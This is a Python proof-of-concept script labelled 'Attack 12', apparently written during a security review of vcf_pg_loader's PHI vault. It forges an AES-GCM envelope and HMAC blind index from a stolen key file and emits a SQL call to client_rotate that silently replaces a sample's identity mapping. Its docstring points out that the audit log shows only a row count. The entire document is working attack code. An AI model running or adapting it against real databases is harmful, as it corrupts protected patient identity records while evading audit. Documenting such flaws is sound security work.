#!/usr/bin/env python3
"""Attack 12 (phi_admin with the keyring): client_rotate accepts any envelope for a row as long
as the row's current key id is named, even under the same key: a sample's identity is replaced,
and the audit says only {"rows_rotated": 1}. usage: KEYFILE ANON_ID OLD_KEY_ID NEWNAME | psql -U admin"""
import base64, hashlib, hmac, os, struct, sys
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives import hashes
key = base64.b64decode(open(sys.argv[1]).read().strip()); aid, old, name = sys.argv[2:5]
kid = hashlib.sha256(b"vcf_pg_loader key id v1" + key).digest()[:4]
bik = HKDF(hashes.SHA256(), 32, b"vcf_pg_loader blind index v1", b"phi_vault.sample_id_mapping.original_id_hmac").derive(key)
head = b"PH\x01\x01" + kid; nonce = os.urandom(12)
env = head + nonce + AESGCM(key).encrypt(nonce, name.encode(), head + struct.pack(">I", len(name)) + aid.encode())
bi = hmac.new(bik, name.encode(), "sha256").digest()[:16]
print(f"SELECT phi_vault.client_rotate(ARRAY['{aid}']::uuid[], ARRAY['{old}'], ARRAY['\\x{env.hex()}'::bytea], ARRAY['\\x{bi.hex()}'::bytea]);")
